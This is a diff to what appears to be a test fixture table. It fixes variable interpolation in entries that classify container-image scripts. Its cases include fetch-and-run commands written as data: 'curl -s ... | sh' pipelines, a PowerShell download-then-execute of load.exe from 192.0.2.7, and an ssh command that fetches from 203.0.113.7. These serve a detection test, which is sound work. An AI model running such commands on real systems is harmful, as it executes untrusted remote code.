@@ -320,7 +320,7 @@ if len(rows.read_text().splitlines()) != 32561:
         'Invoke-WebRequest http://192.0.2.7/a.csv -OutFile C:\\a.csv; Start-Process C:\\tools\\load.exe',
       ],
     ),
-    'a script of the account that publishes the image': of('ghcr.io/acme/tools', `curl -s $OWN| sh`),
+    'a script of the account that publishes the image': of('ghcr.io/acme/tools', `curl -s ${OWN} | sh`),
     'a text for another host that names an address': script(
       'ssh ops@10.0.0.4 "curl -s http://203.0.113.7/x -o /srv/x"',
     ),
@@ -331,7 +331,7 @@ if len(rows.read_text().splitlines()) != 32561:
     ),
     'the same from a branch, written whole': of(
       'ghcr.io/acme/tools',
-      `curl -s $OWN.replace('main', 'refs/heads/main')| sh`,
+      `curl -s ${OWN.replace('main', 'refs/heads/main')} | sh`,
     ),
     'a release of the account that publishes the image': of(
       'ghcr.io/acme/tools',
